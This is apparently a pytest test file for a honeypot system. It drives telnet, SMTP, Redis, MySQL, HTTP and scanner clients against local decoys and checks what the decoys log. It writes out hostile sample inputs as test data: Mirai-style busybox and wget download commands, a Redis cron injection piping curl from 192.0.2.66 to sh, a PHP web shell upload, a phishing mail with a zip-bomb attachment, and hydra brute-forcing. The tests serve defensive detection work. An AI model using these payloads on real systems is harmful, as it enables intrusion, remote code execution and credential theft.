"""The decoys as the real programs of visitors meet them."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import json
import smtplib
import subprocess
from email.message import EmailMessage
from pathlib import Path

import pytest

from tests.support.bus import DEADLINE, until
from tests.support.terminals import converse
from tests.support.visitors import BOMB, decoy, kept, needs, run, secrets

# -- telnet


@needs("telnet", "telnet")
async def test_telnet_session_on_a_terminal_is_recorded(tmp_path: Path) -> None:
    async with decoy(tmp_path, "telnet-02", DECNET_DECOY_TELNET_LOGINS="root:xc3511") as running:

        def start(terminal: int) -> None:
            clients.append(
                subprocess.Popen(
                    ["telnet", "127.0.0.1", str(running.port)],
                    stdin=terminal,
                    stdout=terminal,
                    stderr=terminal,
                    start_new_session=True,
                )
            )

        clients: list[subprocess.Popen[bytes]] = []
        turns = [
            (b"login: ", b"root\r"),
            (b"Password: ", b"guess\r"),
            (b"app02 login: ", b"root\r"),
            (b"Password: ", b"xc3511\r"),
            (b"root@app02:~# ", b"busybox MIRAI; uname -n\r"),
            (b"root@app02:~# ", b"echo -ne '\\x7fELF' > /tmp/x; echo y >> /tmp/x\r"),
            (b"root@app02:~# ", b"wget http://192.0.2.66/x.sh\r"),
            (b"timed out", b"exit\r"),
        ]
        shown = await asyncio.to_thread(converse, start, turns, (40, 120))
        clients[0].wait()
        assert b"Ubuntu 22.04.4 LTS" in shown
        assert b"Login incorrect" in shown
        assert b"MIRAI: applet not found" in shown
        assert b"xc3511" not in shown, "a password is not echoed"
        await until(lambda: running.events("disconnect"))
        assert secrets(running) == [("root", b"guess", "refused"), ("root", b"xc3511", "accepted")]
        login = running.events("login_attempt")[0].fields
        assert "will-24" in login["options"], "what the client offers tells programs apart"
        commands = running.events("command")
        assert [e.fields["command"] for e in commands] == [
            "busybox MIRAI; uname -n",
            "echo -ne '\\x7fELF' > /tmp/x; echo y >> /tmp/x",
            "wget http://192.0.2.66/x.sh",
            "exit",
        ]
        assert running.events("download_attempt")[0].fields["url"] == "http://192.0.2.66/x.sh"
        dropped = running.events("file_captured")[0].fields
        assert (dropped["path"], dropped["size_bytes"]) == ("/tmp/x", "6")
        assert Path(dropped["stored_as"]).read_bytes() == b"\x7fELFy\n"
        ended = running.events("session_recorded")[0].fields
        assert ended["session_id"] == commands[0].fields["session_id"]
        lines = [json.loads(line) for line in Path(ended["shard_path"]).read_text().splitlines()]
        assert (lines[0]["width"], lines[0]["height"]) == (120, 40)
        typed = "".join(line["event"][2] for line in lines[1:] if line["event"][1] == "i")
        assert "busybox MIRAI" in typed
        raw = (tmp_path / "spool/decoy@telnet-02.log").read_text()
        assert raw.count(" decky-02 telnet ") == len(raw.splitlines())


# -- smtp


def mail() -> EmailMessage:
    message = EmailMessage()
    message["Subject"] = "Rechnung für Müller"
    message["From"] = "Boss <boss@example.com>"
    message["To"] = "you@example.org"
    message.set_content("see http://evil.example/pay and open it\n.\n..two dots\n")
    message.add_attachment(
        BOMB, maintype="application", subtype="zip", filename="Rechnung März.zip"
    )
    return message


async def test_smtp_mail_is_taken_with_its_attachments_by_their_hash(tmp_path: Path) -> None:
    def send(port: int) -> None:
        with smtplib.SMTP(
            "127.0.0.1", port, local_hostname="evil.example", timeout=DEADLINE
        ) as client:
            assert client.ehlo()[0] == 250
            client.login("bob", "s3cret")
            client.user, client.password = "al", "w0rd"
            client.auth("LOGIN", client.auth_login)
            assert client.verify("root")[0] == 252
            client.send_message(mail(), "boss@example.com", ["a@example.org", "b@example.net"])

    async with decoy(tmp_path, "smtp") as running:
        await asyncio.to_thread(send, running.port)
        assert secrets(running) == [
            ("bob", b"s3cret", "accepted"),
            ("al", b"w0rd", "accepted"),
        ]
        told = running.events("message_accepted")[0].fields
        assert told["subject"] == "Rechnung für Müller"
        assert (told["mail_from"], told["rcpt_to"], told["rcpt_domains"]) == (
            "boss@example.com",
            "a@example.org,b@example.net",
            "example.org,example.net",
        )
        (attachment,) = json.loads(told["attachments"])
        assert attachment == {
            "filename": "Rechnung März.zip",
            "content_type": "application/zip",
            "size": len(BOMB),
            "sha256": hashlib.sha256(BOMB).hexdigest(),
        }
        assert told["attachment_count"] == "1"
        assert told["link_domains"] == "evil.example"
        (copy,) = kept(running)
        data = copy.read_bytes()
        assert told["sha256"] == hashlib.sha256(data).hexdigest() == copy.stem
        assert b"\r\n.\r\n..two dots\r\n" in data, "the stuffed dots are off again"
        assert running.events("vrfy")[0].fields["address"] == "root"
        kinds = [e.type for e in running.events("ehlo", "mail_from", "rcpt_to")]
        assert kinds == ["ehlo", "mail_from", "rcpt_to", "rcpt_to"]


@needs("swaks", "swaks")
async def test_smtp_by_swaks(tmp_path: Path) -> None:
    async with decoy(tmp_path, "smtp", DECNET_DECOY_SMTP_RELAY="false") as running:
        at = ("swaks", "-s", f"127.0.0.1:{running.port}", "--from", "a@example.com")
        denied = await run(*at, "--to", "x@example.org")
        assert "554 5.7.1" in denied.out + denied.err
        login = ("--auth", "LOGIN", "-au", "bob", "-ap", "pw")
        sent = await run(*at, "--to", "x@example.org", *login, "--attach", "@/etc/hostname")
        assert sent.code == 0, sent.out
        assert running.events("rcpt_denied")[0].fields["rcpt_to"] == "x@example.org"
        told = running.events("message_accepted")[0].fields
        assert (told["principal"], told["attachment_count"]) == ("bob", "1")


# -- redis


@needs("redis-cli", "redis-tools")
async def test_redis_by_its_own_client(tmp_path: Path) -> None:
    async with decoy(tmp_path, "redis") as running:
        cli = ("redis-cli", "-h", "127.0.0.1", "-p", str(running.port))
        assert "redis_version:7.0.15" in (await run(*cli, "info")).out
        said = await run(*cli, "-a", "s3cret", "--no-auth-warning", "ping")
        assert "without any password configured" in said.out + said.err
        key = "\n\n* * * * * curl http://192.0.2.66/x | sh\n\n"
        script = f'set x "{key.encode().decode("unicode_escape")}"'.replace("\n", "\\n")
        lines = (script, "config set dir /var/spool/cron", "config get dir", "save", "keys *")
        out = (await run(*cli, stdin="\n".join([*lines, "get x", "nonsense a"]).encode())).out
        assert "/var/spool/cron" in out
        assert "curl http://192.0.2.66/x" in out
        assert "unknown command 'nonsense'" in out
        assert secrets(running) == [("default", b"s3cret", "refused")]
        told = [e.fields["command"] for e in running.events("command")]
        assert "config set dir /var/spool/cron" in told
        stored = next(c for c in told if c.startswith("set x"))
        assert "\\x0a* * * * * curl" in stored, "a line feed is shown, and ends no line"
        other = await run(*cli, "get", "x")
        assert other.out.strip() == "", "what one visitor leaves no other sees"


# -- mysql


@needs("mariadb", "mariadb-client")
async def test_mysql_by_its_own_client(tmp_path: Path) -> None:
    async with decoy(tmp_path, "mysql") as running:
        host = ("-h", "127.0.0.1", "-P", str(running.port), "--protocol=tcp", "--skip-ssl")
        for extra in ((), ("--default-auth=caching_sha2_password",)):
            ran = await run("mariadb", *host, "-u", "root", "-ps3cret", "shop", *extra)
            assert ran.code == 1
            assert "Access denied for user 'root'@'127.0.0.1' (using password: YES)" in ran.err
        ran = await run("mariadb", *host, "-u", "admin", "--skip-password")
        assert "(using password: NO)" in ran.err
        first = running.events("login_attempt")[0].fields
        assert (first["principal"], first["database"]) == ("root", "shop")
        assert first["secret_kind"] == "mysql_native_password"
        assert base64.b64decode(first["secret_b64"]) == scramble(
            b"s3cret", bytes.fromhex(first["salt"])
        )
        assert first["crackable"].startswith(f"$mysqlna${first['salt']}*")
        assert "secret_b64" not in running.events("login_attempt")[-1].fields


def scramble(password: bytes, salt: bytes) -> bytes:
    one = hashlib.sha1(password).digest()
    two = hashlib.sha1(salt + hashlib.sha1(one).digest()).digest()
    return bytes(a ^ b for a, b in zip(one, two, strict=True))


# -- http


@needs("curl", "curl")
async def test_http_uploads_are_kept_and_not_opened(tmp_path: Path) -> None:
    file = tmp_path / "shell.php"
    file.write_bytes(b"<?php system($_GET['c']); ?>" + BOMB)
    digest = hashlib.sha256(file.read_bytes()).hexdigest()
    async with decoy(tmp_path, "http") as running:
        url = f"http://127.0.0.1:{running.port}"
        curl = ("curl", "-sS", "-q", "-o", "/dev/null", "-w", "%{http_code}")
        form = await run(*curl, "-F", f"file=@{file}", "-F", "a=b", f"{url}/upload.php")
        assert form.out == "200"
        assert (await run(*curl, "-T", str(file), f"{url}/dav/x.php")).out == "201"
        big = await run(*curl, "--data-binary", f"@{file}", f"{url}/x")
        assert big.out == "200", "a body beyond a form's is a file, whatever it calls itself"
        login = await run(*curl, "-F", "username=bob", "-F", "password=pw", f"{url}/login")
        assert login.out == "200"
        told = [e.fields for e in running.events("upload")]
        assert [(t["filename"], t["sha256"]) for t in told] == [
            ("shell.php", digest),
            ("x.php", digest),
            ("x", digest),
        ]
        assert Path(told[1]["stored_as"]).read_bytes() == file.read_bytes()
        assert len(kept(running)) == 2
        assert secrets(running) == [("bob", b"pw", "refused")]


# -- tcp, and what scanners make of all


async def test_tcp_tells_the_first_bytes(tmp_path: Path) -> None:
    async with decoy(tmp_path, "tcp") as running:
        reader, writer = await asyncio.open_connection("127.0.0.1", running.port)
        assert (await reader.readline()) == b"backup-agent 2.4.1 ready on web01\r\n"
        writer.write(b"\x16\x03\x01\x00\xff\x1b[2J")
        assert await reader.readline() == b"ERR\r\n"
        writer.close()
        told = running.events("request")[0].fields
        assert base64.b64decode(told["payload_b64"]) == b"\x16\x03\x01\x00\xff\x1b[2J"
        assert (told["looks_like"], told["payload"]) == ("tls", "\\x16\\x03\\x01\\x00\\xff\\x1b[2J")


@needs("nmap", "nmap")
@pytest.mark.parametrize(
    ("kind", "words"),
    [
        ("ssh-02", "OpenSSH 8.9p1 Ubuntu 3ubuntu0.7"),
        ("ftp-03", "vsftpd 3.0.2"),
        ("smtp-02", "Postfix smtpd"),
        ("mysql-02", "MySQL 8.0.36-0ubuntu0.22.04.1"),
    ],
)
async def test_nmap_takes_a_decoy_for_what_it_pretends(
    tmp_path: Path, kind: str, words: str
) -> None:
    async with decoy(tmp_path, kind) as running:
        ran = await run("nmap", "-sV", "-Pn", "-n", "-p", str(running.port), "127.0.0.1")
        assert words in ran.out, ran.out
        assert running.process.process.returncode is None


@needs("hydra", "hydra")
@pytest.mark.parametrize(
    ("kind", "module"),
    [("ftp", "ftp"), ("smtp", "smtp"), ("mysql", "mysql")],
)
async def test_hydra_finds_the_password_that_works(tmp_path: Path, kind: str, module: str) -> None:
    words = tmp_path / "words"
    words.write_text("123456\nadmin\ntoor\nroot\n")
    variable = f"DECNET_DECOY_{kind.upper()}_LOGINS"
    async with decoy(tmp_path, kind, **{variable: "root:toor"}) as running:
        ran = await run(
            *("hydra", "-I", "-t", "2", "-l", "root", "-P", str(words)),
            *("-s", str(running.port), "127.0.0.1", module),
        )
        if kind == "mysql":
            assert "0 valid password" in ran.out
            assert len(running.events("login_attempt")) >= 4
        else:
            assert "password: toor" in ran.out, ran.out + ran.err
            assert ("root", b"toor", "accepted") in secrets(running)
